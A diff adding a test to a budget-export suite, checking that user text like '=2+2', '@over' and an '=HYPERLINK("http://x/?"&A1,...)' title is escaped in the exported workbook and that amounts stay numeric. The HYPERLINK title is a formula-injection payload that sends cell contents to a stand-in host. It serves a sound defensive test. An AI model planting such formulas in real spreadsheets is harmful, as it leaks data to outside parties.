@@ -77,3 +77,19 @@ async def test_export_costs_a_fixed_number_of_queries(api_as, db, org, count_que
             if row[0]]
     assert len(rows) == 32  # 31 lines and the total
     assert large.n == small.n
+
+
+async def test_user_text_is_never_a_formula_and_amounts_stay_numbers(api_as, db, org):
+    strategic = h.budget(db, org, stream="strategic", amount="100.00")
+    h.line(db, org, strategic, title='=HYPERLINK("http://x/?"&A1,"k")', planned="50.00", kind="other")
+    line = h.line(db, org, strategic, title="@over", planned="10.00", kind="other")
+    h.expenditure(db, org, line, "25.00", "spent")  # remaining: -15.00
+    h.team(db, org, "=2+2", "1.00")
+    book = load_workbook(BytesIO((await api_as("viewer").get("/api/v1/budgets/export",
+                                                             params={"year": 2014})).content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+    assert "'=2+2" in texts and "'@over" in texts and "'=HYPERLINK(\"http://x/?\"&A1,\"k\")" in texts
+    remaining = [row[6] for row in book["Strategisch"].iter_rows(min_row=4, values_only=True) if row[1] == "'@over"]
+    assert remaining == [-15]
